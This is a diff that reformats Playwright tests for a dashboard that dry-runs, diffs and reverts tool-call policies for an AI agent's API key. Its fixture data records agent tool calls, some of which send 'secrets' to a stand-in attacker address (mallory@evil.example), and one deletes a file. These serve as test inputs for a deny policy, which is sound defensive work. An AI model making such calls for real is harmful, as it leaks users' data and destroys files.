@@ -48,21 +48,37 @@ def set_policy(page, code: str) -> None:
         page.keyboard.insert_text(code)
     else:
         page.fill("#id_policy_code", code)
-    page.wait_for_function("code => document.querySelector('#id_policy_code').value.trim() === code.trim()",
-                           arg=code)
+    page.wait_for_function(
+        "code => document.querySelector('#id_policy_code').value.trim() === code.trim()", arg=code
+    )
 
 
 def key_with_traffic():
     user = UserFactory()
     key, _ = make_key(user, arch="single-llm")
-    services.do_update_api_key_config(key=key, arch=key.arch, features=key.features, config=key.config,
-                                      policy={**key.policy, "codes": {"code": DENY_DELETE, "language": "sqrt"}})
-    first = record_tool_calls(key, [("send_email", {"to": "alice@example.com", "body": "hi"}),
-                                    ("send_email", {"to": "mallory@evil.example", "body": "secrets"}),
-                                    ("search", {"q": "invoices"})])
-    record_tool_calls(key, [("send_email", {"to": "mallory@evil.example", "body": "more"}),
-                            ("delete_file", {"path": "/tmp/x"}),
-                            ("send_email", {"to": "mallory@evil.example", "body": "again"})])
+    services.do_update_api_key_config(
+        key=key,
+        arch=key.arch,
+        features=key.features,
+        config=key.config,
+        policy={**key.policy, "codes": {"code": DENY_DELETE, "language": "sqrt"}},
+    )
+    first = record_tool_calls(
+        key,
+        [
+            ("send_email", {"to": "alice@example.com", "body": "hi"}),
+            ("send_email", {"to": "mallory@evil.example", "body": "secrets"}),
+            ("search", {"q": "invoices"}),
+        ],
+    )
+    record_tool_calls(
+        key,
+        [
+            ("send_email", {"to": "mallory@evil.example", "body": "more"}),
+            ("delete_file", {"path": "/tmp/x"}),
+            ("send_email", {"to": "mallory@evil.example", "body": "again"}),
+        ],
+    )
     return user, key, first
 
 
@@ -79,7 +95,8 @@ def test_dry_run_then_diff_and_revert(page):
     page.click("#dryrun-button")
     summary = page.wait_for_selector("[data-dryrun-summary]")
     assert summary.inner_text().startswith(
-        "Would deny 3 of 6 recorded calls, in 2 sessions; would allow 1 call denied today.")
+        "Would deny 3 of 6 recorded calls, in 2 sessions; would allow 1 call denied today."
+    )
     assert page.locator("[data-change=newly_denied]").count() == 3
     assert page.locator("[data-change=newly_allowed][data-tool=delete_file]").count() == 1
     assert "hard deny when to.value ==" in page.inner_text("[data-change=newly_denied] [data-rule] >> nth=0")
@@ -98,7 +115,9 @@ def test_dry_run_then_diff_and_revert(page):
     link.click()
     page.wait_for_url(f"**/dashboard/sessions/{first}/#step-2")
     assert page.inner_text("#step-2 [data-policy-version]") == "policy v2"
-    assert page.evaluate("document.getElementById('step-2').getBoundingClientRect().top") >= 60  # not under the bar
+    assert (
+        page.evaluate("document.getElementById('step-2').getBoundingClientRect().top") >= 60
+    )  # not under the bar
     shot(page, "35-inspector-version-1280")
 
     page.goto(f"/keys/{key.pk}/configure/#policy-versions")
